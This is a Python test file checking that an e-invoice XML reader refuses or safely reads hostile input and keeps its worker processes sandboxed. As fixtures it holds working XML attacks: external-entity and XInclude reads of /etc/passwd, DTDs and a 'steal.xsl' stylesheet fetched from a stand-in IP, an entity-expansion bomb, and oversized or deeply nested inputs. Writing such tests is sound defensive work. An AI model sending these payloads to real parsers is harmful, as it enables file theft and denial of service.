"""Attacks on whoever reads XML: each ends soon, and in somebody's hands; none reaches a file, a network or a program."""

import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from agents.read import einvoice, en16931
from agents.read.sandbox import ReaderPool
from agents.read.structured import parse
from core.claims import PartState
from tests.read.papers import cii, failed, hybrid, part, ubl

ID = b"<ram:ID>KF-88213</ram:ID>"
NAME = b"<ram:Name>Keller Fasteners</ram:Name>"
HEAD = b'<?xml version="1.0" encoding="UTF-8"?>'
BODY = cii().removeprefix(HEAD)
INCLUDE = b'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'
STYLE = b'<?xml-stylesheet type="text/xsl" href="http://198.51.100.7/steal.xsl"?>'
CHAIN = b"<!ENTITY a 'ha'>" + b"".join(b"<!ENTITY %c '%s'>" % (98 + i, b"&%c;" % (97 + i) * 9) for i in range(12))
DOCTYPES = {
    "entities": b"<!DOCTYPE x [" + CHAIN + b"]>",
    "external": b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
    "network": b'<!DOCTYPE x SYSTEM "http://198.51.100.7/x.dtd">',
    "parameter": b'<!DOCTYPE x [<!ENTITY % p SYSTEM "http://198.51.100.7/p"> %p;]>',
}
REFUSED = {
    **{name: HEAD + doctype + BODY for name, doctype in DOCTYPES.items()},
    **{
        f"{name} utf-16": (HEAD.replace(b"8", b"16") + doctype + BODY).decode().encode("utf-16")
        for name, doctype in DOCTYPES.items()
    },
    "doctype behind comments": HEAD + b"<!-- -->" * 3000 + DOCTYPES["external"] + BODY,
    "doctype behind instructions": HEAD + b"<?a b?>" * 3000 + DOCTYPES["external"] + BODY,
    "xinclude": cii().replace(NAME, NAME + INCLUDE),
    "utf-7": cii().replace(b"UTF-8", b"UTF-7"),
    "utf-32": cii().replace(b"UTF-8", b"UTF-32"),
    "ebcdic": cii().replace(b"UTF-8", b"IBM037"),
    "deep": cii().replace(NAME, b"<ram:Name>" * 200 + b"x" + b"</ram:Name>" * 200),
    "too large": cii().replace(NAME, b"<ram:Name>" + b"x" * 10_500_000 + b"</ram:Name>"),
    "a number of a million digits": cii().replace(b">639.03<", b">" + b"9" * 1_000_000 + b"<"),
    "an exponent": cii().replace(b">639.03<", b">1e999999999<"),
}
DAMAGED = {
    "deeper than any parser goes": cii().replace(NAME, b"<ram:Name>" * 100_000),
    "entities nobody declared": cii().replace(b"Keller", b"&a;&b;"),
    "ten megabytes in an attribute": cii().replace(
        b"<ram:Name>Keller", b'<ram:Name a="' + b"x" * 10_400_000 + b'">Keller'
    ),
    "the same attribute twice": cii().replace(b"<ram:Name>Keller", b'<ram:Name a="1" a="2">Keller'),
    "the same id twice": cii()
    .replace(b"<ram:Name>Keller", b'<ram:Name xml:id="a">Keller')
    .replace(ID, ID.replace(b">K", b' xml:id="a">K')),
    "cut off": cii()[:-400],
}
READ = {
    "stylesheet instruction": HEAD + STYLE + BODY,
    "twenty thousand instructions": HEAD + b"<?a b?>" * 20_000 + BODY,
    "unclosed instructions": HEAD + b"<?a?>" * 28 + BODY,
    "a megabyte in an attribute": cii().replace(b"<ram:Name>Keller", b'<ram:Name a="' + b"x" * 1_000_000 + b'">Keller'),
    "comments between digits": cii().replace(b">639.03<", b">6<!-- -->39<!-- -->.03<"),
    "characters by number": cii().replace(b"Keller", b"&#75;&#x65;ller"),
    "marked text": cii().replace(b"Keller Fasteners", b"<![CDATA[<script>&a;</script>]]>"),
    "utf-16 that says utf-8": cii().decode().encode("utf-16-le"),
}


@pytest.fixture(scope="module")
def pool() -> Iterator[ReaderPool]:
    with ReaderPool(1) as pool:
        yield pool


def ended(raw: bytes) -> tuple[PartState, str, int]:
    """How reading it here ends, within seconds."""
    began = time.process_time()
    after, documents = einvoice.read(raw, part(raw))
    assert time.process_time() - began < 5
    return after.state, after.why, len(documents)


@pytest.mark.parametrize("name", REFUSED)
def test_what_no_invoice_needs_is_refused(name: str):
    state, why, documents = ended(REFUSED[name])

    assert (state, documents) == (PartState.REFUSED, 0)
    assert why


@pytest.mark.parametrize("name", DAMAGED)
def test_what_is_no_xml_is_unreadable(name: str):
    state, why, documents = ended(DAMAGED[name])

    assert documents == 0
    assert state in (PartState.UNREADABLE, PartState.REFUSED)
    assert why


@pytest.mark.parametrize("name", READ)
def test_what_is_only_odd_is_read_as_what_it_says(name: str):
    raw = READ[name]
    began = time.process_time()

    after, (document,) = einvoice.read(raw, part(raw))

    assert time.process_time() - began < 5
    assert after.state is PartState.READ
    assert document.first("invoice.total").span.text == "639.03"
    assert document.first("invoice.number").value == "KF-88213"


def test_what_stands_twice_and_differs_is_told():
    twice = cii().replace(ID, ID + ID.replace(b"88213", b"99999"))

    _, (document,) = einvoice.read(twice, part(twice))

    assert "said_once" in failed(document)
    assert "invoice.number stands twice: KF-88213 and KF-99999" in [check.says for check in document.failed()]


def test_an_attack_inside_a_pdf_refuses_the_picture_too(pool: ReaderPool):
    reading = pool.read(hybrid(REFUSED["external"], "Total EUR 639.03"), "a.pdf")

    assert reading.documents == ()
    assert {p.state for p in reading.parts} == {PartState.REFUSED}
    assert "root:" not in " ".join(p.text for p in reading.parts)


def test_rules_that_would_never_end_cost_the_rules_and_not_the_invoice(pool: ReaderPool):
    group = b"<cac:TaxTotal>" + b"<cac:TaxSubtotal/>" * 5_000 + b"</cac:TaxTotal>"
    bill = ubl("Invoice", "<cbc:CustomizationID>urn:cen.eu:en16931:2017</cbc:CustomizationID><cbc:ID>1</cbc:ID>")
    bill = bill.replace(b"</Invoice>", group + b"</Invoice>")

    began = time.process_time()
    _, (document,) = einvoice.read(bill, part(bill))

    assert time.process_time() - began < 5
    assert document.first("invoice.number").value == "1"
    (check,) = (check for check in document.failed() if check.name == en16931.RULES)
    assert "5,000 tax categories" in check.says


def test_a_reader_that_dies_of_the_rules_is_replaced_and_the_invoice_read_without(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
):
    from agents.read import reader_process

    deadly = "from agents.read import saxon; saxon.transform = lambda *a: __import__('os')._exit(9)\n"
    start = reader_process._START
    assert "from agents.read.cell import main" in start
    monkeypatch.setattr(
        reader_process, "_START", start.replace("from agents.read.cell", f"exec({deadly!r}); from agents.read.cell")
    )
    with ReaderPool(1) as fresh:
        reading = fresh.read(cii(), "KF-88213.xml")

    (document,) = reading.documents
    assert document.first("invoice.total").span.text == "639.03"
    assert failed(document) == [en16931.RULES]
    assert "could not be held against it" in document.failed()[0].says


@pytest.mark.skipif(not Path("/proc/self/task").is_dir(), reason="threads are looked at in /proc, which Linux has")
def test_every_thread_of_a_reader_is_confined_also_that_of_the_rules(pool: ReaderPool):
    (document,) = pool.read(cii(), "KF-88213.xml").documents
    assert [check.says for check in document.checks if check.name == en16931.RULES] == ["The rules of EN 16931 hold"]
    (child,) = [one for one in list(pool._idle.queue) if one is not None]
    threads = list(Path(f"/proc/{child._process.pid}/task").iterdir())

    assert len(threads) >= 2
    for thread in threads:
        status = (thread / "status").read_text()
        assert "Seccomp:\t2\n" in status
        assert "NoNewPrivs:\t1\n" in status
        if "no network interface" in child.held:
            assert (thread / "ns/net").readlink() != Path("/proc/self/ns/net").readlink()


def test_nothing_that_saxon_is_given_can_name_a_file_or_a_place():
    raw = HEAD + STYLE + BODY.replace(NAME, b"<ram:Name><!-- c --><![CDATA[&x; <!DOCTYPE y>]]></ram:Name>")
    given: list[str] = []

    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(en16931.saxon, "transform", lambda document, sheet: given.append(document) or "<svrl/>")
        en16931.held_against(parse(raw), "1:a.xml")

    (document,) = given
    assert "<!" not in document
    assert "<?" not in document
    assert "198.51.100.7" not in document
